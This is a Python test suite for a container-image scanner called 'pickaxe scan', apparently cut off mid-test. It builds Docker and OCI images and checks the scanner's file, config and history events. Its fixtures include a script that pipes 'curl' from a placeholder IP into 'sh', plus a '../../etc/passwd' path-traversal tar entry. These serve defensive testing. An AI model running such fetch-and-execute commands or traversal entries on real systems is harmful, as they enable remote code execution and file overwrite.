#!/usr/bin/env python3
"""`pickaxe scan` end to end, through the real binary (docs/SCAN.md).

Images are built in a temporary folder by scripts/image_builder.py and
scanned; what the scan says is read back from --events (every scan event),
-o (the alerts, NDJSON) and stderr, and compared with what the test put in
the image: the (action, path) pairs, hashes computed here, modes, owners,
ELF facts, the config and history events, image names and platforms.

- Formats: docker save (legacy, and Docker 25's OCI layout with
  manifest.json), OCI layout folder and tarball, plain, gzip and zstd layers
  and outer tarballs, members in any order: the same files every time.
- Layers: whiteouts, opaque folders, replaced files, hard links, symlinks
  that climb out of the root (nothing is written anywhere), ELF facts,
  setuid/setgid, a 200 MiB file of zeros (streamed, small peak RSS) and a GNU
  sparse member.
- Multi-platform indexes (every platform, or --platform), attestation
  manifests passed over.
- Malformed inputs: cut short, a missing layer, a blob that is not its
  digest, a path that climbs out of the root, a decompression bomb: exit 1, a
  message naming the input, layer and entry, no crash.
- stdin, the summary table, SARIF, YARA, exit codes.
- The bundled scan pack: the clean Debian image raises nothing; emulation
  3's image (emulations/3-malicious-image-pull/image.oci.tar) is what
  image_builder.py writes, and the pack's alerts on it.

Usage: scan_test.py PICKAXE REPO_ROOT (or --pickaxe PICKAXE --source-dir
REPO_ROOT), then unittest's own arguments (-k NAME). The builder's own checks
run without the binary; the rest exits 77 (skipped, with why) when
`pickaxe scan --help` fails.
"""
import argparse
import collections
import datetime
import filecmp
import gzip
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
import threading
import tomllib
import unittest

SKIP = 77
ARGS = None
FIXED = "2026-12-01T00:00:00.000Z"
SCAN_AVAILABLE = False
SANITIZED = False
TEST_RULES = None  # a folder of rules written by setUpModule
FILE_ACTIONS = ("image-file", "image-file-deleted", "image-file-replaced")
MIB = 1 << 20
# Every scan event's @timestamp is the time of the scan (--detection-time),
# as docs/DECISIONS.md has it; the image's and each history entry's own
# `created` are pickaxe.scan.image.created and pickaxe.scan.history.created.

sys.dont_write_bytecode = True  # no __pycache__ beside the builder
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "scripts"))
from image_builder import (Config, Entry, History, Image, Index, Layer, Workspace,  # noqa: E402
                           bomb_layer, build_image, directory, elf, file, hardlink, opaque,
                           symlink, truncate, whiteout, write_docker_save, write_oci, zeros,
                           zeros_sha256)
import image_builder  # noqa: E402


# ---------------------------------------------------------------------------
# helpers

MISSING = object()


def field(doc, dotted, default=None):
    """A field by its dotted name, whether the document nests it
    ({"file": {"path": ...}}) or keeps the dotted key ("kibana.alert.uuid")."""
    if not isinstance(doc, dict):
        return default
    if dotted in doc:
        return doc[dotted]
    parts = dotted.split(".")
    for cut in range(len(parts) - 1, 0, -1):
        head = ".".join(parts[:cut])
        if head in doc:
            found = field(doc[head], ".".join(parts[cut:]), MISSING)
            if found is not MISSING:
                return found
    return default


def as_list(value):
    if value is None:
        return []
    return value if isinstance(value, list) else [value]


def when(text):
    return datetime.datetime.fromisoformat(text.replace("Z", "+00:00"))


def environment():
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS")}
    env["PICKAXE_CONFIG"] = "/dev/null"  # no user's configuration
    return env


class Run:
    def __init__(self, returncode, stdout, stderr, events, alerts, peak_rss_kb, outputs):
        self.returncode, self.stdout, self.stderr = returncode, stdout, stderr
        self.events, self.alerts, self.peak_rss_kb = events, alerts, peak_rss_kb
        self.outputs = outputs

    def of(self, *actions):
        return [e for e in self.events if field(e, "event.action") in actions]

    def files(self):
        return self.of(*FILE_ACTIONS)

    def pairs(self):
        """The sorted (action, path) pairs of the file events."""
        return sorted((field(e, "event.action"), field(e, "file.path")) for e in self.files())

    def present(self):
        """path -> the image-file event (the file as the final image has it)."""
        found = {}
        for event in self.of("image-file"):
            found[field(event, "file.path")] = event
        return found

    def rule_names(self):
        return sorted(field(a, "kibana.alert.rule.name") for a in self.alerts)


def summary_row(run, image):
    """The summary table's row of `image`: platform, layers, alerts, worst."""
    for line in run.stderr.splitlines():
        cells = line.split()
        if len(cells) == 6 and cells[0] == image:
            return {"platform": cells[1], "layers": cells[2], "alerts": cells[4],
                    "worst": cells[5]}
    raise AssertionError(f"no summary row for {image} in:\n{run.stderr[-3000:]}")


def read_ndjson(path):
    if not os.path.exists(path):
        return []
    with open(path, encoding="utf-8") as source:
        return [json.loads(line) for line in source if line.strip()]


def tree(root):
    listing = set()
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            listing.add(os.path.relpath(os.path.join(folder, name), root))
    return listing


def run_program(argv, stdin_path=None, cwd=None, timeout=900):
    """(exit code, stdout, stderr, peak RSS in KB) of a child, through wait4."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        stdin = open(stdin_path, "rb") if stdin_path else subprocess.DEVNULL
        try:
            process = subprocess.Popen(argv, stdin=stdin, stdout=out, stderr=err, cwd=cwd,
                                       env=environment())
        finally:
            if stdin_path:
                stdin.close()
        timer = threading.Timer(timeout, process.kill)
        timer.start()
        try:
            _, status, usage = os.wait4(process.pid, 0)
        finally:
            timer.cancel()
        process.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return (process.returncode, out.read().decode(errors="replace"),
                err.read().decode(errors="replace"), usage.ru_maxrss)


def pack_folder():
    return os.path.join(ARGS.source_dir, "rules", "t1204_003", "scan")


def pack_rule_names():
    names = {}
    folder = pack_folder()
    if not os.path.isdir(folder):
        return names
    for root, _, files in os.walk(folder):
        for name in sorted(files):
            if name.endswith(".toml"):
                with open(os.path.join(root, name), "rb") as source:
                    rule = tomllib.load(source).get("rule", {})
                if "name" in rule:
                    names[rule["name"]] = os.path.join(root, name)
    return names


class ScanCase(unittest.TestCase):
    """A temporary folder: images are built under `build/`, the program runs
    in the empty `cwd/` (which must stay empty), outputs go to `out/`."""

    def setUp(self):
        if not SCAN_AVAILABLE:
            self.skipTest("pickaxe scan is not available")
        self.dir = tempfile.mkdtemp(prefix="pickaxe-scan-")
        self.build = os.path.join(self.dir, "build")
        self.cwd = os.path.join(self.dir, "w", "x", "cwd")
        self.out = os.path.join(self.dir, "out")
        for folder in (self.build, self.cwd, self.out):
            os.makedirs(folder)
        self.ws = Workspace(dir=self.dir)
        self.runs = 0

    def tearDown(self):
        self.ws.close()
        shutil.rmtree(self.dir, ignore_errors=True)

    def path(self, name):
        return os.path.join(self.build, name)

    def scan(self, *images, args=(), rules="test", yara=False, stdin=None, outputs=True):
        """Runs `pickaxe scan` on `images`; checks it did not crash and wrote
        nothing but its outputs."""
        self.runs += 1
        events = os.path.join(self.out, f"events-{self.runs}.ndjson")
        alerts = os.path.join(self.out, f"alerts-{self.runs}.ndjson")
        argv = [ARGS.pickaxe, "scan", "--detection-time", FIXED]
        if outputs:
            argv += ["--events", events, "-o", alerts, "--format", "ndjson"]
        if rules == "test":
            argv += ["-r", TEST_RULES]
        elif rules != "pack":
            argv += ["-r", rules]
        if not yara:
            argv.append("--no-yara")
        argv += list(args) + list(images)
        before = tree(self.dir)
        code, stdout, stderr, rss = run_program(argv, stdin_path=stdin, cwd=self.cwd)
        if ARGS.show:
            print(f"\n$ {' '.join(argv[1:])}{' < ' + stdin if stdin else ''}\n"
                  f"exit {code}, peak RSS {rss} KB\n{stderr}", file=sys.stderr)
        self.assertGreaterEqual(code, 0, f"killed by signal {-code}: {stderr[-3000:]}")
        self.assertLess(code, 128, stderr[-3000:])
        for marker in ("Sanitizer", "runtime error:", "Segmentation fault", "terminate called"):
            self.assertNotIn(marker, stderr, stderr[-3000:])
        self.assertEqual(os.listdir(self.cwd), [], "the scan wrote into its working folder")
        made = tree(self.dir) - before
        allowed = {os.path.relpath(p, self.dir) for p in (events, alerts)}
        for extra in args:
            if isinstance(extra, str) and extra.startswith(self.out):
                allowed.add(os.path.relpath(extra, self.dir))
        self.assertLessEqual(made, allowed, "the scan wrote files of its own")
        return Run(code, stdout, stderr, read_ndjson(events), read_ndjson(alerts), rss, argv)

    def assert_exit(self, run, code):
        self.assertEqual(run.returncode, code, run.stderr[-3000:])


# ---------------------------------------------------------------------------
# the images

CREATED = "2026-03-01T10:00:00Z"
SU_HELPER = elf("x86-64", "EXEC", strings=["su-helper", "/etc/shadow"], symtab=True)
TOOL = elf("x86-64", "EXEC", strings=["tool"])
LIBFOO = elf("aarch64", "DYN", strings=["libfoo"])
LIB386 = elf("i386", "DYN", strings=["lib386"])
S390 = elf("s390x", "EXEC", strings=["big"])
PYTHON = b"#!python\n" + bytes(range(256)) * 40


def rich_layers(compression="none"):
    """Three layers: files, modes, owners, ELF files, links; a file replaced
    twice; whiteouts of a file, of a folder and of nothing; an opaque folder;
    a file added then deleted."""
    base = Layer([
        directory("/etc"),
        file("/etc/app.conf", b"v1\n"),
        file("/etc/os-release", b"ID=debian\nVERSION_ID=12\n"),
        directory("/usr"), directory("/usr/bin"), directory("/usr/lib"),
        file("/usr/bin/tool", TOOL, mode=0o755),
        file("/usr/bin/su-helper", SU_HELPER, mode=0o4755),
        file("/usr/bin/wall", b"#!/bin/sh\necho wall\n", mode=0o2755, gid=5, gname="tty"),
        file("/usr/lib/libfoo.so.1", LIBFOO, mode=0o644),
        file("/usr/lib/lib386.so", LIB386, mode=0o755),
        file("/usr/lib/s390.bin", S390, mode=0o755),
        file("/usr/bin/python3.11", PYTHON, mode=0o755),
        hardlink("/usr/bin/python3", "/usr/bin/python3.11"),
        symlink("/usr/bin/python", "python3"),
        directory("/var"), directory("/var/cache"), directory("/var/cache/app"),
        file("/var/cache/app/a", b"a"), file("/var/cache/app/b", b"b"),
        directory("/srv"), directory("/srv/data"), directory("/srv/data/sub"),
        file("/srv/data/f1", b"f1"), file("/srv/data/sub/f2", b"f2"),
        directory("/home"),
        directory("/home/user", mode=0o750, uid=1000, gid=1000, uname="user", gname="user"),
        file("/home/user/notes.txt", b"notes\n", mode=0o600, uid=1000, gid=1000, uname="user",
             gname="user"),
    ], compression)
    middle = Layer([
        file("/etc/app.conf", b"v2\n"),
        whiteout("/usr/bin/tool"),
        opaque("/var/cache/app"),
        file("/var/cache/app/c", b"c"),
        directory("/tmp", mode=0o1777),
        file("/tmp/installer.sh", b"#!/bin/sh\ncurl -s http://198.51.100.9/x | sh\n", mode=0o755),
        symlink("/usr/bin/python", "python3.11"),
    ], compression)
    top = Layer([
        file("/etc/app.conf", b"v3\n"),
        whiteout("/tmp/installer.sh"),
        whiteout("/srv/data"),
        whiteout("/opt/nothing"),
    ], compression)
    return [base, middle, top]


# (action, path, layer index) of rich_layers' file events.
RICH_EVENTS = sorted([
    ("image-file-replaced", "/etc/app.conf", 0),
    ("image-file", "/etc/os-release", 0),
    ("image-file-deleted", "/usr/bin/tool", 0),
    ("image-file", "/usr/bin/su-helper", 0),
    ("image-file", "/usr/bin/wall", 0),
    ("image-file", "/usr/lib/libfoo.so.1", 0),
    ("image-file", "/usr/lib/lib386.so", 0),
    ("image-file", "/usr/lib/s390.bin", 0),
    ("image-file", "/usr/bin/python3.11", 0),
    ("image-file", "/usr/bin/python3", 0),
    ("image-file-replaced", "/usr/bin/python", 0),
    ("image-file-deleted", "/var/cache/app/a", 0),
    ("image-file-deleted", "/var/cache/app/b", 0),
    ("image-file-deleted", "/srv/data/f1", 0),
    ("image-file-deleted", "/srv/data/sub/f2", 0),
    ("image-file", "/home/user/notes.txt", 0),
    ("image-file-replaced", "/etc/app.conf", 1),
    ("image-file", "/var/cache/app/c", 1),
    ("image-file-deleted", "/tmp/installer.sh", 1),
    ("image-file", "/usr/bin/python", 1),
    ("image-file", "/etc/app.conf", 2),
])

RICH_CONFIG = dict(
    entrypoint=["/usr/bin/tool", "--serve"], cmd=["--port", "8080"],
    env=["PATH=/usr/local/bin:/usr/bin:/bin", "MODE=production"],
    labels={"maintainer": "ops@example.com", "org.opencontainers.image.version": "1.0"},
    user="app", working_dir="/srv", exposed_ports=["8080/tcp", "9090/udp"], created=CREATED,
    history=[
        History("/bin/sh -c #(nop) ADD file:0a1b2c in / ", "2026-02-01T08:00:00Z"),
        History('/bin/sh -c #(nop)  CMD ["bash"]', "2026-02-01T08:00:01Z", empty_layer=True),
        History("RUN /bin/sh -c apt-get install -y tool # buildkit", "2026-03-01T09:00:00Z",
                comment="buildkit.dockerfile.v0"),
        History("RUN /bin/sh -c rm -f /tmp/installer.sh # buildkit", "2026-03-01T09:30:00Z",
                comment="buildkit.dockerfile.v0"),
        History('ENTRYPOINT ["/usr/bin/tool" "--serve"]', CREATED, empty_layer=True),
    ])


def rich_image(compression="none", reference="example/app:1.0", **config):
    return Image(rich_layers(compression), Config(**dict(RICH_CONFIG, **config)),
                 reference=reference)


def content_of(entry_data):
    return hashlib.sha256(entry_data).hexdigest()


RICH_FILES = {  # path -> (bytes, mode) as the final image has it
    "/etc/app.conf": (b"v3\n", "0644"),
    "/etc/os-release": (b"ID=debian\nVERSION_ID=12\n", "0644"),
    "/usr/bin/su-helper": (SU_HELPER, "4755"),
    "/usr/bin/wall": (b"#!/bin/sh\necho wall\n", "2755"),
    "/usr/lib/libfoo.so.1": (LIBFOO, "0644"),
    "/usr/lib/lib386.so": (LIB386, "0755"),
    "/usr/lib/s390.bin": (S390, "0755"),
    "/usr/bin/python3.11": (PYTHON, "0755"),
    "/usr/bin/python3": (PYTHON, None),
    "/var/cache/app/c": (b"c", "0644"),
    "/home/user/notes.txt": (b"notes\n", "0600"),
}


def small_image(reference="example/small:1", compression="none", files=None, **config):
    files = files or [file("/bin/hello", elf("x86-64", strings=["hello"]), mode=0o755)]
    return Image([Layer([directory("/bin")] + files, compression)],
                 Config(cmd=["/bin/hello"], created=CREATED, **config), reference=reference)


# ---------------------------------------------------------------------------
# the builder itself (no binary needed)

class Builder(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="pickaxe-builder-")

    def tearDown(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    def write_all(self, folder):
        os.makedirs(folder)
        with Workspace(dir=self.dir) as ws:
            write_docker_save(os.path.join(folder, "docker.tar"), [rich_image()], ws)
            write_docker_save(os.path.join(folder, "docker.tar.zst"), [rich_image()], ws,
                              compression="zstd")
            write_oci(os.path.join(folder, "gzip.oci.tar"), [rich_image("gzip")], ws,
                      compression="gzip", docker_manifest=True)
            write_oci(os.path.join(folder, "zstd.oci"), [rich_image("zstd")], ws, tar=False)
            amd = small_image(architecture="amd64")
            arm = small_image(architecture="arm64", variant="v8")
            write_oci(os.path.join(folder, "multi.tar"),
                      [Index([amd, arm], reference="example/multi:2", attestations=True)], ws)

    def test_same_arguments_same_bytes(self):
        one, two = os.path.join(self.dir, "one"), os.path.join(self.dir, "two")
        self.write_all(one)
        self.write_all(two)
        comparison = filecmp.dircmp(one, two)
        self.assertEqual(sorted(comparison.left_only + comparison.right_only), [])
        for name in sorted(os.listdir(one)):
            left, right = os.path.join(one, name), os.path.join(two, name)
            if os.path.isdir(left):
                self.assertEqual(tree(left), tree(right))
                for sub in tree(left):
                    if os.path.isfile(os.path.join(left, sub)):
                        self.assertTrue(filecmp.cmp(os.path.join(left, sub),
                                                    os.path.join(right, sub), shallow=False), sub)
            else:
                self.assertTrue(filecmp.cmp(left, right, shallow=False), name)

    def test_digests_sizes_and_diff_ids(self):
        folder = os.path.join(self.dir, "oci")
        with Workspace(dir=self.dir) as ws:
            for compression in ("none", "gzip", "zstd"):
                write_oci(folder, [rich_image(compression)], ws, tar=False)
                blobs = os.path.join(folder, "blobs", "sha256")
                for name in os.listdir(blobs):
                    with open(os.path.join(blobs, name), "rb") as blob:
                        self.assertEqual(hashlib.sha256(blob.read()).hexdigest(), name)
                with open(os.path.join(folder, "index.json")) as source:
                    index = json.load(source)
                self.assertEqual(index["manifests"][0]["annotations"],
                                 {"io.containerd.image.name": "example/app:1.0",
                                  "org.opencontainers.image.ref.name": "1.0"})
                manifest = self.blob(folder, index["manifests"][0]["digest"])
                config = self.blob(folder, manifest["config"]["digest"])
                diff_ids = []
                for layer in manifest["layers"]:
                    self.assertTrue(layer["mediaType"].startswith(
                        "application/vnd.oci.image.layer.v1.tar"))
                    path = os.path.join(blobs, layer["digest"][7:])
                    self.assertEqual(os.path.getsize(path), layer["size"])
                    with open(path, "rb") as source:
                        data = source.read()
                    if compression == "gzip":
                        self.assertTrue(layer["mediaType"].endswith("+gzip"))
                        data = gzip.decompress(data)
                    elif compression == "zstd":
                        self.assertTrue(layer["mediaType"].endswith("+zstd"))
                        data = subprocess.run([image_builder.ZSTD, "-dc", path],
                                              capture_output=True, check=True).stdout
                    diff_ids.append("sha256:" + hashlib.sha256(data).hexdigest())
                self.assertEqual(config["rootfs"]["diff_ids"], diff_ids)
                self.assertEqual(len(config["history"]), 5)
            legacy = os.path.join(self.dir, "legacy.tar")
            write_docker_save(legacy, [rich_image()], ws)
        with tarfile.open(legacy) as tar:
            manifest = json.load(tar.extractfile("manifest.json"))
            config = json.load(tar.extractfile(manifest[0]["Config"]))
            self.assertEqual(manifest[0]["RepoTags"], ["example/app:1.0"])
            self.assertEqual(
                ["sha256:" + hashlib.sha256(tar.extractfile(layer).read()).hexdigest()
                 for layer in manifest[0]["Layers"]], config["rootfs"]["diff_ids"])
            self.assertEqual(json.load(tar.extractfile("repositories"))["example/app"]["1.0"],
                             manifest[0]["Layers"][-1].split("/")[0])

    def blob(self, folder, digest):
        with open(os.path.join(folder, "blobs", "sha256", digest.split(":")[1])) as source:
            return json.load(source)

    def test_layer_members(self):
        with Workspace(dir=self.dir) as ws:
            built = build_image(rich_image(), ws)
            with tarfile.open(built.layers[0].tar.path) as tar:
                members = {m.name: m for m in tar.getmembers()}
            self.assertEqual(members["usr/bin/su-helper"].mode, 0o4755)
            self.assertEqual(members["usr/bin/wall"].gname, "tty")
            self.assertEqual(members["usr/bin/python3"].linkname, "usr/bin/python3.11")
            self.assertTrue(members["usr/bin/python3"].islnk())
            self.assertEqual(members["usr/bin/python"].linkname, "python3")
            self.assertTrue(members["usr"].isdir())
            self.assertTrue(all(m.mtime == 0 for m in members.values()))
            with tarfile.open(built.layers[1].tar.path) as tar:
                names = tar.getnames()
            self.assertIn("usr/bin/.wh.tool", names)
            self.assertIn("var/cache/app/.wh..wh..opq", names)
            evil = Layer([file("../../etc/passwd", b"x", raw=True),
                          zeros("/sparse", 3 * MIB, sparse=True),
                          Entry("/holes", "sparse", size=2 * MIB,
                                regions=[(4096, b"A" * 4096), (MIB, b"B" * 8192)])])
            built = build_image(Image([evil]), ws)
            with tarfile.open(built.layers[0].tar.path) as tar:
                self.assertEqual(tar.getnames(), ["../../etc/passwd", "sparse", "holes"])
                self.assertEqual(tar.getmember("sparse").size, 3 * MIB)
            # GNU tar reads the sparse members back as the files they stand for.
            out = os.path.join(self.dir, "x")
            os.makedirs(out)
            subprocess.run(["tar", "-xf", built.layers[0].tar.path, "-C", out, "sparse", "holes"],
                           check=True)
            with open(os.path.join(out, "sparse"), "rb") as source:
                self.assertEqual(hashlib.sha256(source.read()).hexdigest(),
                                 zeros_sha256(3 * MIB))
            expected = bytearray(2 * MIB)
            expected[4096:8192] = b"A" * 4096
            expected[MIB:MIB + 8192] = b"B" * 8192
            with open(os.path.join(out, "holes"), "rb") as source:
                self.assertEqual(source.read(), bytes(expected))

    def test_elf_files_read_as_elf(self):
        if not shutil.which("readelf"):
            self.skipTest("no readelf")
        expectations = {"x86-64": "X86-64", "aarch64": "AArch64", "i386": "80386", "arm": "ARM",
                        "s390x": "S/390"}
        for machine, shown in expectations.items():
            for symtab in (False, True):
                path = os.path.join(self.dir, f"{machine}-{symtab}")
                with open(path, "wb") as out:
                    out.write(elf(machine, "DYN", strings=["x"], symtab=symtab))
                run = subprocess.run(["readelf", "-hS", path], capture_output=True, text=True)
                self.assertEqual(run.stderr, "")
                self.assertIn(shown, run.stdout)
                self.assertEqual(".symtab" in run.stdout, symtab)

    def test_emulation_image_is_what_the_script_writes(self):
        script = os.path.join(ARGS.source_dir, "scripts", "image_builder.py")
        committed = os.path.join(ARGS.source_dir, "emulations", "3-malicious-image-pull",
                                 "image.oci.tar")
        run = subprocess.run([sys.executable, script, "emulation", committed, "--check"],
                             capture_output=True, text=True)
        self.assertEqual(run.returncode, 0, run.stderr)
        self.assertLess(os.path.getsize(committed), 64 << 10)
        changed = os.path.join(self.dir, "changed.tar")
        with open(committed, "rb") as source, open(changed, "wb") as out:
            data = bytearray(source.read())
            data[-2000] ^= 1
            out.write(data)
        run = subprocess.run([sys.executable, script, "emulation", changed, "--check"],
                             capture_output=True, text=True)
        self.assertEqual(run.returncode, 1)
        self.assertIn("changed.tar", run.stderr)

    def test_bench_image(self):
        script = os.path.join(ARGS.source_dir, "scripts", "image_builder.py")
        outs = [os.path.join(self.dir, f"bench{i}.tar") for i in (1, 2)]
        for out in outs:
            subprocess.run([sys.executable, script, "bench", out, "--size", "3M", "--files", "60"],
                           check=True)
        self.assertTrue(filecmp.cmp(*outs, shallow=False))
        total = files = 0
        with tarfile.open(outs[0]) as outer:
            index = json.load(outer.extractfile("index.json"))
            manifest = json.load(outer.extractfile("blobs/sha256/" +
                                                   index["manifests"][0]["digest"][7:]))
            self.assertEqual(len(manifest["layers"]), 4)
            for layer in manifest["layers"]:
                self.assertTrue(layer["mediaType"].endswith("+gzip"))
                data = outer.extractfile("blobs/sha256/" + layer["digest"][7:]).read()
                with tarfile.open(fileobj=io.BytesIO(gzip.decompress(data))) as tar:
                    for member in tar.getmembers():
                        if member.isreg():
                            total += member.size
                            files += 1
        self.assertEqual((total, files), (3 * MIB, 60))


# ---------------------------------------------------------------------------
# formats

class Formats(ScanCase):
    def expect_rich(self, run, image_path, layer_digests, reference="example/app:1.0"):
        """The rich image's events, whatever the format it was written in."""
        got = sorted((field(e, "event.action"), field(e, "file.path"),
                      field(e, "pickaxe.scan.layer.index")) for e in run.files())
        self.assertEqual(got, RICH_EVENTS)
        for event in run.files():
            index = field(event, "pickaxe.scan.layer.index")
            self.assertEqual(field(event, "pickaxe.scan.layer.digest"), layer_digests[index],
                             field(event, "file.path"))
        present = run.present()
        for path, (data, mode) in RICH_FILES.items():
            self.assertEqual(field(present[path], "file.hash.sha256"), content_of(data), path)
            self.assertEqual(field(present[path], "file.size"), len(data), path)
            if mode:
                self.assertEqual(field(present[path], "file.mode"), mode, path)
        for event in run.events:
            self.assertEqual(field(event, "container.image.name"), reference)
            self.assertEqual(field(event, "pickaxe.scan.input"), image_path)
            self.assertEqual(field(event, "pickaxe.scan.image.platform"), "linux/amd64")

    def variants(self):
        """(name, path, layer digests) of the rich image written every way."""
        ws = self.ws
        plain = rich_image()
        built_plain = build_image(plain, ws)
        diff_ids = [layer.diff_id for layer in built_plain.layers]
        made = []

        def docker(name, **options):
            path = self.path(name)
            write_docker_save(path, [plain], ws, **options)
            made.append((name, path, diff_ids))

        def oci(name, layers, tar=True, **options):
            image = rich_image(layers)
            built = build_image(image, ws, options.get("manifest_format", "oci"))
            path = self.path(name)
            write_oci(path, [image], ws, tar=tar, **options)
            made.append((name, path, [layer.blob.digest for layer in built.layers]))

        docker("docker.tar")
        docker("docker.tar.gz", compression="gzip")
        docker("docker.tar.zst", compression="zstd")
        docker("docker-metadata-first.tar", order="metadata-first")
        docker("docker-layers-reversed.tar", order="layers-reversed")
        oci("plain.oci", "none", tar=False)
        oci("gzip.oci", "gzip", tar=False)
        oci("gzip.oci.tar", "gzip")
        oci("zstd.oci.tar.zst", "zstd", compression="zstd")
        oci("docker25.tar", "gzip", docker_manifest=True)
        oci("docker25.tar.gz", "none", docker_manifest=True, compression="gzip")
        oci("docker-media-types.oci.tar", "gzip", manifest_format="docker")
        oci("metadata-first.oci.tar", "zstd", order="metadata-first")
        oci("layers-reversed.oci.tar", "gzip", order="layers-reversed")
        return made

    def test_the_same_files_in_every_format(self):
        for name, path, digests in self.variants():
            with self.subTest(name):
                run = self.scan(path)
                self.assert_exit(run, 0)
                self.expect_rich(run, path, digests)

    def test_file_fields(self):
        path = self.path("docker.tar")
        write_docker_save(path, [rich_image()], self.ws)
        run = self.scan(path)
        self.assert_exit(run, 0)
        built = build_image(rich_image(), self.ws)
        config_digest = built.config.digest
        present = run.present()
        for event in run.events:
            self.assertEqual(field(event, "event.kind"), "event")
            self.assertEqual(field(event, "event.module"), "pickaxe.scan")
            self.assertEqual(field(event, "event.dataset"), "pickaxe.scan")
            self.assertEqual(field(event, "data_stream.type"), "logs")
            self.assertEqual(field(event, "data_stream.dataset"), "pickaxe.scan")
            self.assertEqual(field(event, "data_stream.namespace"), "default")
            self.assertEqual(field(event, "container.image.tag"), ["1.0"])
            self.assertIn(config_digest, as_list(field(event, "container.image.hash.all")))
            self.assertEqual(field(event, "pickaxe.scan.image.reference"), "example/app:1.0")
            self.assertEqual(field(event, "host.os.type"), "linux")
        for event in run.files():
            self.assertEqual(as_list(field(event, "event.category")), ["file"])
            self.assertEqual(as_list(field(event, "event.type")), ["info"])
            self.assertEqual(when(field(event, "@timestamp")), when(FIXED))
            self.assertNotIn(".wh.", field(event, "file.path"))
            self.assertEqual(field(event, "file.directory"),
                             os.path.dirname(field(event, "file.path")))
            self.assertEqual(field(event, "file.name"), os.path.basename(field(event, "file.path")))

        conf = present["/etc/app.conf"]
        self.assertEqual((field(conf, "file.name"), field(conf, "file.directory"),
                          field(conf, "file.extension")), ("app.conf", "/etc", "conf"))
        self.assertEqual(field(conf, "file.type"), "file")
        self.assertEqual((field(conf, "file.uid"), field(conf, "file.gid")), ("0", "0"))
        self.assertEqual((field(conf, "file.owner"), field(conf, "file.group")), ("root", "root"))
        self.assertNotIn("executable", as_list(field(conf, "file.attributes")))
        self.assertIsNone(field(conf, "file.elf.architecture"))
        self.assertIsNone(field(present["/etc/os-release"], "file.extension"))

        su = present["/usr/bin/su-helper"]
        self.assertEqual(field(su, "file.mode"), "4755")
        self.assertIn("setuid", as_list(field(su, "file.attributes")))
        self.assertIn("executable", as_list(field(su, "file.attributes")))
        self.assertNotIn("setgid", as_list(field(su, "file.attributes")))
        self.assertEqual(field(su, "file.elf.architecture"), "x86-64")
        self.assertEqual(field(su, "file.elf.header.class"), "ELF64")
        self.assertEqual(field(su, "file.elf.header.type"), "EXEC")
        self.assertEqual(field(su, "file.elf.byte_order"), "Little Endian")
        self.assertIs(field(su, "pickaxe.scan.file.stripped"), False)

        wall = present["/usr/bin/wall"]
        self.assertEqual(field(wall, "file.mode"), "2755")
        self.assertIn("setgid", as_list(field(wall, "file.attributes")))
        self.assertNotIn("setuid", as_list(field(wall, "file.attributes")))
        self.assertEqual((field(wall, "file.gid"), field(wall, "file.group")), ("5", "tty"))

        notes = present["/home/user/notes.txt"]
        self.assertEqual((field(notes, "file.uid"), field(notes, "file.gid")), ("1000", "1000"))
        self.assertEqual((field(notes, "file.owner"), field(notes, "file.group")),
                         ("user", "user"))
        self.assertEqual(as_list(field(notes, "file.attributes")), [])

        libfoo = present["/usr/lib/libfoo.so.1"]
        self.assertEqual((field(libfoo, "file.elf.architecture"),
                          field(libfoo, "file.elf.header.type"),
                          field(libfoo, "file.elf.header.class")), ("aarch64", "DYN", "ELF64"))
        self.assertIs(field(libfoo, "pickaxe.scan.file.stripped"), True)
        lib386 = present["/usr/lib/lib386.so"]
        self.assertEqual((field(lib386, "file.elf.architecture"),
                          field(lib386, "file.elf.header.class")), ("i386", "ELF32"))
        s390 = present["/usr/lib/s390.bin"]
        self.assertEqual((field(s390, "file.elf.byte_order"),
                          field(s390, "file.elf.header.class")), ("Big Endian", "ELF64"))

        # The file a whiteout deletes is described as it was.
        tool = [e for e in run.of("image-file-deleted") if field(e, "file.path") == "/usr/bin/tool"]
        self.assertEqual(len(tool), 1)
        self.assertEqual(field(tool[0], "file.hash.sha256"), content_of(TOOL))
        self.assertIs(field(tool[0], "pickaxe.scan.file.stripped"), True)

        # A hard link: its own path, the target's hash and size.
        link = present["/usr/bin/python3"]
        self.assertEqual(field(link, "pickaxe.scan.file.hard_link_to"), "/usr/bin/python3.11")
        self.assertEqual(field(link, "file.hash.sha256"), content_of(PYTHON))
        self.assertEqual(field(link, "file.size"), len(PYTHON))
        self.assertEqual(field(link, "file.type"), "file")
        self.assertIsNone(field(present["/usr/bin/python3.11"], "pickaxe.scan.file.hard_link_to"))

        # A symlink replaced by another.
        python = present["/usr/bin/python"]
        self.assertEqual((field(python, "file.type"), field(python, "file.target_path")),
                         ("symlink", "python3.11"))
        self.assertIsNone(field(python, "file.hash.sha256"))
        self.assertNotEqual(field(python, "pickaxe.scan.file.escapes_root"), True)
        old = [e for e in run.of("image-file-replaced") if field(e, "file.path") == "/usr/bin/python"]
        self.assertEqual([field(e, "file.target_path") for e in old], ["python3"])

        # Each layer of the rich image replaced /etc/app.conf: the bytes of each.
        versions = sorted((field(e, "pickaxe.scan.layer.index"), field(e, "file.hash.sha256"))
                          for e in run.files() if field(e, "file.path") == "/etc/app.conf")
        self.assertEqual(versions, [(i, content_of(b"v%d\n" % (i + 1))) for i in range(3)])

    def test_config_and_history_events(self):
        path = self.path("app.oci.tar")
        image = rich_image("gzip", reference="registry.example.com:5000/team/app:1.0")
        write_oci(path, [image], self.ws)
        built = build_image(image, self.ws)
        run = self.scan(path)
        self.assert_exit(run, 0)
        for event in run.events:
            self.assertEqual(field(event, "container.image.name"),
                             "registry.example.com:5000/team/app:1.0")
            self.assertEqual(field(event, "container.image.tag"), ["1.0"])
            self.assertEqual(as_list(field(event, "container.image.hash.all")),
                             [built.manifest.digest, built.config.digest])
        configs = run.of("image-config")
        self.assertEqual(len(configs), 1)
        config = configs[0]
        args = ["/usr/bin/tool", "--serve", "--port", "8080"]
        self.assertEqual(as_list(field(config, "event.category")), ["package"])
        self.assertEqual(as_list(field(config, "event.type")), ["info"])
